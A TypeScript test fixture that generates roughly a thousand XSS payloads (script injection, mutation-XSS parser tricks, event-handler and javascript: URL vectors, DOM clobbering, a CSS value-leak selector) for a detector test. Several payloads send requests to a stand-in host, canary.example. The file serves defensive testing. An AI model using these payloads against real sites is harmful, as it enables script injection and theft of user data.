// A thousand texts that would run a script, send a request or change the page if it did not treat them as text, built
// from the well-known attack vectors. xss-detector.ts notices their effects; this file checks nothing.
import { isLong } from '../../../../scripts/test-suites.ts'

/** The host that the payloads send requests to. It does not exist. */
export const canaryHost = 'canary.example'

/** What a script would do. None has a space, a quote or an angle bracket, so that each fits into any attribute. */
const scriptEffects: readonly string[] = [
  'alert(1)',
  'console.log(/canary/)',
  'window.canary=1',
  `fetch(\`//${canaryHost}/fetch\`)`,
  'document.title=`canary`',
  `new/**/Image().src=\`//${canaryHost}/image\``,
  'top.canary=2',
  'confirm`canary`',
]

const host = `//${canaryHost}`
type Vector = (effect: string) => string

const scripts: readonly Vector[] = [
  (effect) => `<script>${effect}</script>`,
  (effect) => `<ScRiPt >${effect}</sCrIpT >`,
  (effect) => `<script/x>${effect}</script\t\n>`,
  (effect) => `<script\x0c>${effect}</script>`,
  () => `<script src=${host}/s.js></script>`,
  () => `<script src="data:text/javascript,window.canary=3"></script>`,
  (effect) => `<script type=module>${effect}</script>`,
  (effect) => `<<script>${effect}//<</script>`,
  (effect) => `<scr<script>ipt>${effect}</scr</script>ipt>`,
  (effect) => `<img """><script>${effect}</script>">`,
  (effect) => `<svg><script>${effect}</script></svg>`,
  () => `<svg><script href=${host}/s.js /></svg>`,
  (effect) => `<math><script>${effect}</script></math>`,
  (effect) => `</textarea></title></style></xmp><script>${effect}</script>`,
  (effect) => `<template><script>${effect}</script></template>`,
  (effect) => `<div><template shadowrootmode=open><script>${effect}</script></template></div>`,
  (effect) => `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${effect}</x:script></html>`,
  (effect) => `<![CDATA[<script>${effect}</script>]]>`,
  (effect) => `<!--><script>${effect}</script>-->`,
  (effect) => `<!-- --!><script>${effect}</script>-->`,
  (effect) => `<?xml version="1.0"?><script>${effect}</script>`,
  (effect) => `&lt;script&gt;${effect}&lt;/script&gt;`,
  (effect) => `&#60;script&#62;${effect}&#60;/script&#62;`,
  (effect) => `\\u003cscript\\u003e${effect}\\u003c/script\\u003e`,
  (effect) => `＜script＞${effect}＜/script＞`,
  (effect) => `{{constructor.constructor('${effect}')()}}`,
  (effect) => `\${${effect}}`,
  (effect) => `";${effect};//`,
  (effect) => `'-${effect}-'`,
  (effect) => `"><img src=x onerror=${effect}>`,
  (effect) => `'><img src=x onerror=${effect}>`,
  (effect) => `" autofocus onfocus=${effect} x="`,
  (effect) => `</script><script>${effect}</script>`,
]

/** Markup that one parser reads as text and a second parser reads as elements. */
const mutations: readonly Vector[] = [
  (effect) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${effect}>`,
  (effect) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${effect}&gt;">`,
  (effect) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${effect}'>">`,
  (effect) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${effect}>`,
  (effect) => `<svg></p><style><a id="</style><img src=1 onerror=${effect}>">`,
  (effect) => `<svg><style><img src=x onerror=${effect}></style></svg>`,
  (effect) => `<svg><desc><style><a title="</style><img src=x onerror=${effect}>"></desc></svg>`,
  (effect) => `<svg><title><style><img src=x onerror=${effect}></style></title></svg>`,
  (effect) => `<svg><foreignObject><iframe srcdoc="<script>${effect}</script>"></iframe></foreignObject></svg>`,
  (effect) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${effect}></style></annotation-xml></math>`,
  (effect) => `<math><annotation-xml encoding="text/html"><script>${effect}</script></annotation-xml></math>`,
  (effect) => `<noscript><p title="</noscript><img src=x onerror=${effect}>">`,
  (effect) => `<noembed><img title="</noembed><img src=x onerror=${effect}>"></noembed>`,
  (effect) => `<noframes><img title="</noframes><img src=x onerror=${effect}>"></noframes>`,
  (effect) => `<textarea><img title="</textarea><img src=x onerror=${effect}>"></textarea>`,
  (effect) => `<title><a title="</title><img src=x onerror=${effect}>"></title>`,
  (effect) => `<xmp><img title="</xmp><img src=x onerror=${effect}>"></xmp>`,
  (effect) => `<style><a title="</style><img src=x onerror=${effect}>"></style>`,
  (effect) => `<iframe><img title="</iframe><img src=x onerror=${effect}>"></iframe>`,
  (effect) => `<select><style></select><img src=x onerror=${effect}></style></select>`,
  (effect) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${effect}>">`,
  (effect) => `<table><caption><style></caption><img src=x onerror=${effect}></style></table>`,
  (effect) => `<p><svg><p><style><a id="</style><img src=1 onerror=${effect}>">`,
  (effect) => `<a><table><td></a></table><a></a><style><!--</style><img src onerror=${effect}>-->`,
  (effect) => `<listing>&lt;img src=x onerror=${effect}&gt;</listing>`,
  (effect) => `<a title="&lt;/a&gt;&lt;img src=x onerror=${effect}&gt;">x</a>`,
  (effect) => `<a title="\`><img src=x onerror=${effect}>">x</a>`,
  (effect) => `${'<div>'.repeat(520)}<svg><style><img src=x onerror=${effect}></style></svg>`,
  (effect) => `${'<form><h1>'.repeat(60)}<math><mi><style><img src=x onerror=${effect}></style></math>`,
  (effect) => `<plaintext><img src=x onerror=${effect}>`,
]

/** Elements that load something or change styles without a script. */
const loadingMarkup: readonly string[] = [
  `<img src=${host}/img>`,
  `<img srcset="${host}/srcset 1x">`,
  `<picture><source srcset=${host}/source><img></picture>`,
  `<image src=${host}/image>`,
  `<video src=${host}/video autoplay></video>`,
  `<video poster=${host}/poster></video>`,
  `<audio src=${host}/audio autoplay></audio>`,
  `<video><track default src=${host}/track></video>`,
  `<iframe src=${host}/frame></iframe>`,
  `<frameset><frame src=${host}/frame></frameset>`,
  `<object data=${host}/object></object>`,
  `<embed src=${host}/embed>`,
  `<applet archive=${host}/applet></applet>`,
  `<input type=image src=${host}/input>`,
  `<body background=${host}/body>`,
  `<table background=${host}/table><td background=${host}/td>x</table>`,
  `<link rel=stylesheet href=${host}/style.css>`,
  `<link rel=prefetch href=${host}/prefetch>`,
  `<link rel=preload as=image href=${host}/preload>`,
  `<link rel=modulepreload href=${host}/module.js>`,
  `<link rel=icon href=${host}/icon>`,
  `<link rel=import href=${host}/import>`,
  `<meta http-equiv=refresh content="0;url=${host}/refresh">`,
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  `<base href=${host}/base/>`,
  `<base target=canary>`,
  `<svg><image href=${host}/svgimage /></svg>`,
  `<svg><use href=${host}/use.svg#x /></svg>`,
  `<svg><filter id=f><feImage href=${host}/fe /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  `<svg style="background:url(${host}/svgstyle)"></svg>`,
  `<style>@import "${host}/import.css";</style>`,
  `<style>*{background:url(${host}/all)!important}</style>`,
  `<style>input[value^="a"]{background:url(${host}/leak)}</style>`,
  `<style>@font-face{font-family:x;src:url(${host}/font)}*{font-family:x}</style>`,
  `<div style="background:url(${host}/background)">x</div>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#000">x</div>`,
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(data:text/xml,x)">x</div>',
  `<xss style="behavior:url(${host}/x.htc)">x</xss>`,
  `<ul style="list-style-image:url(${host}/list)"><li>x</ul>`,
  `<iframe srcdoc="<script>parent.canary=4</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=${host}/srcdoc&gt;"></iframe>`,
  `<object type=text/html data="data:text/html,<script>parent.canary=5</script>"></object>`,
  `<portal src=${host}/portal></portal>`,
  `<fencedframe src=${host}/fenced></fencedframe>`,
  `<form id=canary action=${host}/form><input type=submit autofocus></form>`,
  `<button form=canary formaction=${host}/button>x</button>`,
  `<isindex action=${host}/isindex type=image>`,
  '<a id=trustedTypes><a id=trustedTypes name=createPolicy href=x:>x</a>',
  '<form name=body><input name=firstChild></form>',
  '<img name=getElementById><img name=querySelector>',
  '<a id=location href=x:>x</a><a id=defaultView>x</a>',
  '<form id=attributes><input name=attributes><input name=parentNode></form>',
  '<div id=root><div id=content>x</div></div>',
  '<x-canary is=script>x</x-canary>',
  '<div data-react-aria-top-layer=true popover=auto>x</div>',
]

const carriers: readonly string[] = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'style',
  'link rel=stylesheet href=x',
  'select autofocus',
  'a href=# tabindex=1 autofocus',
  'p contenteditable autofocus',
  'x tabindex=1 autofocus id=x',
  'form',
  'div popover',
  'math',
  'table',
  'svg/',
]

const events: readonly string[] = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onbegin',
  'onloadstart',
  'onanimationstart',
  'onmouseover',
  'onpointerenter',
  'onclick',
  'onbeforetoggle',
  'onwheel',
  'onscrollend',
  'ONERROR',
  'x/onerror',
  '\tonerror\t',
  '"onload',
]

const addresses: readonly Vector[] = [
  (effect) => `javascript:${effect}`,
  (effect) => `JaVaScRiPt:${effect}`,
  (effect) => ` javascript:${effect}`,
  (effect) => `\x01javascript:${effect}`,
  (effect) => `java\nscript:${effect}`,
  (effect) => `java\tscript:${effect}`,
  (effect) => `java&#10;script:${effect}`,
  (effect) => `java&Tab;script:${effect}`,
  (effect) => `javascript&colon;${effect}`,
  (effect) => `&#106;avascript:${effect}`,
  (effect) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${effect}`,
  (effect) => `javascript://%0a${effect}`,
  (effect) => `javascript:/*--></title></style></script>*/${effect}`,
  (effect) => `vbscript:${effect}`,
  (effect) => `data:text/html,<script>${effect}</script>`,
  (effect) => `data:text/html;base64,${Buffer.from(`<script>${effect}</script>`).toString('base64')}`,
  (effect) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${effect}'/>`,
  (effect) => `blob:${effect}`,
  (effect) => `view-source:javascript:${effect}`,
  (effect) => `jar:javascript:${effect}!/`,
]

const linkMarkup: readonly Vector[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}' target=_self>x</a>`,
  (url) => `<a href="https://example.com" ping="${url}">x</a>`,
  (url) => `<map><area shape=default href="${url}"></map>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<form><input type=image formaction="${url}"></form>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<base href="${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text x=9 y=9>x</text></a></svg>`,
  (url) => `<svg><use href="${url}"/></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}"/><text x=9 y=9>x</text></a></svg>`,
  (url) => `<svg><set attributeName=onload to="${url}"/></svg>`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<blockquote cite="${url}">x</blockquote>`,
  (url) => `<table background="${url}"><td>x</table>`,
]

function buildPayloads(): string[] {
  let turn = 0
  const effect = (): string => scriptEffects[turn++ % scriptEffects.length] ?? ''
  const few = [...mutations, ...scripts].flatMap((vector) => [vector(effect()), vector(effect())])
  const onEvents = carriers.flatMap((carrier) => events.map((event) => `<${carrier} ${event}=${effect()}>`))
  const atAddresses = linkMarkup.flatMap((place) => addresses.map((address) => place(address(effect()))))
  const many = onEvents
    .flatMap((one, at) => [one, ...atAddresses.slice(at, at + 1)])
    .concat(atAddresses.slice(onEvents.length))
  return [...few, ...loadingMarkup, ...many]
}

/** Without duplicates; every kind of payload is included. */
const allPayloads: readonly string[] = [...new Set(buildPayloads())].slice(0, 1000)

/** All of them in `npm run test:long`, every tenth in `npm test`. */
export const payloads: readonly string[] = isLong ? allPayloads : allPayloads.filter((_, at) => at % 10 === 0)

/** Payloads that fit into one line of text. */
export const shortPayloads: readonly string[] = allPayloads.filter(
  (text) => !/[\x00-\x1f]/.test(text) && text.length < 120,
)

/** The marker before each payload, by which the test finds it on the screen. */
export const payloadMarker = (at: number): string => `k${at}k`

const closing =
  '</textarea></title></style></script></xmp></noscript></noembed></noframes></iframe></select>--></svg></math>'

/** Many payloads in one text. After each, all open elements are closed; deeply nested payloads come last. */
export const joinPayloads = (some: readonly string[]): string =>
  some
    .filter((text) => !text.startsWith('<plaintext'))
    .sort((one, other) => Number(one.length > 1000) - Number(other.length > 1000))
    .map((text, at) => `${payloadMarker(at)}${text}${closing}`)
    .join('\n')
